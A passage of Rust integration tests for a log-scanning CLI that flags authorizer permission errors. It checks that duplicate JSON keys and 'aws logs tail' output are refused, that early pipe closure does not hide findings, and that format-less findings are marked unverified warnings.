        (
            "requestPayload",
            format!(r#"{{"requestPayload":{{}},"requestPayload":{event}}}"#),
        ),
        (
            "Records",
            format!(
                r#"{{"Records":[],"Records":[{{"messageId":"q","body":{}}}]}}"#,
                Value::String(event.to_string())
            ),
        ),
    ] {
        let path = write(&format!("twice-{}.json", name.replace(' ', "-")), &body);
        let run = forwarder(&["scan", "--json", &path], None, &[]);
        assert_eq!(run.code, 2, "{name}: {run:?}");
        assert!(run.stderr.contains("twice"), "{name}: {run:?}");
    }

    // `aws logs tail` output has lost where events end: refused, with what to run instead.
    let tail = write(
        "tail.log",
        &format!(
            "2026-12-07T09:45:51.123000+00:00 abc {failed}\n2026-12-07T09:45:51.124000+00:00 abc ({id}) AuthorizerConfigurationException\n"
        ),
    );
    let run = forwarder(&["scan", &tail], None, &[]);
    assert_eq!(run.code, 2, "{run:?}");
    assert!(run.stderr.contains("filter-log-events"), "{run:?}");

    // A reader that stops early does not make a flagged input clean.
    let many: String = (0..4000)
        .map(|i| format!("{}\n", json_authz(&format!("r{i}"), "500", PERMISSION)))
        .collect();
    let path = write("many.log", &many);
    let bin = forwarder_tests::forwarder_bin()
        .to_str()
        .unwrap()
        .to_owned();
    for args in ["--json", "--alert", ""] {
        let status = std::process::Command::new("bash")
            .args([
                "-c",
                &format!(
                    "'{bin}' scan {args} --format '{JSON_AUTHZ}' '{path}' | head -c 1 >/dev/null; exit ${{PIPESTATUS[0]}}"
                ),
            ])
            .status()
            .unwrap();
        assert_eq!(status.code(), Some(1), "scan {args} | head");
    }
}

/// Without a format, a finding of the command line's heuristics is one a client could have made:
/// `--json` says it is unverified and its alert is a warning, whatever its cause; a line that
/// follows the default format is read as the function reads it and keeps its severity.
#[test]
fn a_finding_no_format_proves_is_unverified_and_at_most_a_warning() {
    let dir = std::env::temp_dir().join(format!("trust-unverified-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let cases = [
        // No known shape: the quote rule.
        (
            format!("weird|203.0.113.7|\"GET /\"|500|{PERMISSION}"),
            false,
            "warning",
        ),
        // A JSON line read by its key names.
        (
            format!(r#"{{"id":"r1","why":"x","error":"{PERMISSION}"}}"#),
            false,
            "warning",
        ),
        // The default format, as the function reads it with no format set.
        (
            format!(
                r#"203.0.113.7 - - [20/Nov/2026:09:14:03 +0000] "GET GET /orders HTTP/1.1" 500 35 Vx3kTfWGIAMEbyw= {PERMISSION}"#
            ),
            true,
            "critical",
        ),
    ];
    for (i, (line, verified, severity)) in cases.iter().enumerate() {
        let path = dir.join(format!("{i}.log"));
        std::fs::write(&path, line).unwrap();
        let run = forwarder(&["scan", "--json", path.to_str().unwrap()], None, &[]);
        assert_eq!(run.code, 1, "{line}: {run:?}");
        assert!(
            run.stdout.contains(&format!(r#""verified":{verified}"#)),
            "{line}: {run:?}"
        );
        let run = forwarder(&["scan", "--alert", path.to_str().unwrap()], None, &[]);
        assert!(
            run.stdout.contains(&format!("severity={severity}")),
            "{line}: {}",
            run.stdout
        );
        assert_eq!(
            run.stdout.contains("Unverified: 1 / 1"),
            !verified,
            "{line}"
        );
    }
}
